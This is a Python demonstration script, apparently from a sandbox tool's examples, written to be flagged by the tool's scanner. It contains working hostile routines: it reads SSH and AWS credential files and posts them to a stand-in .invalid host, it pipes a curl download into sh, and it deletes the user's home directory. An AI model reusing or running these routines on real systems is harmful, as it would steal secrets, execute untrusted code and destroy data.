"""DO NOT RUN THIS OUTSIDE A SANDBOX.

It does what a script from an unknown source might do behind your back: it looks for keys, sends them
away, and deletes the home folder. SafeRun flags it before it runs, and refuses it unless you say why
it should run:

    saferunctl run examples/dangerous_example.py
    saferunctl run examples/dangerous_example.py --override "to see it fail"

In the sandbox it finds no keys of yours, reaches no network, and deletes what is thrown away anyway.
The host it sends to ends in .invalid, which never exists (RFC 2606).
"""

import base64
import os
import shutil
import subprocess
import urllib.request
from pathlib import Path


def steal_keys() -> None:
    """Reads secrets and posts them: the scanner follows the value from the file to the network."""
    for name in (".ssh/id_rsa", ".aws/credentials"):
        path = Path.home() / name
        try:
            secret = path.read_bytes()
        except OSError as error:
            print(f"  no {name}: {error.strerror}")
            continue
        try:
            urllib.request.urlopen("https://collector.invalid/drop", data=base64.b64encode(secret), timeout=2)
        except OSError as error:
            print(f"  read {len(secret)} bytes of {name}, but could not send them: {error}")


def run_what_the_network_says() -> None:
    """Pipes a download into a shell."""
    done = subprocess.run(
        "curl -fsS https://collector.invalid/install.sh | sh",
        shell=True, capture_output=True, text=True, check=False,
    )
    print(f"  the shell says: {done.stderr.strip() or done.returncode}")


def wipe_home() -> None:
    """Deletes everything that the user owns."""
    shutil.rmtree(os.path.expanduser("~"), ignore_errors=True)
    print(f"  home is now: {os.listdir(os.path.expanduser('~')) if os.path.isdir(os.path.expanduser('~')) else 'gone'}")


if __name__ == "__main__":
    for attack in (steal_keys, run_what_the_network_says, wipe_home):
        print(attack.__doc__.split(":")[0].rstrip("."))
        attack()
    print("That was the sandbox's home, and it is thrown away now. Yours is untouched.")
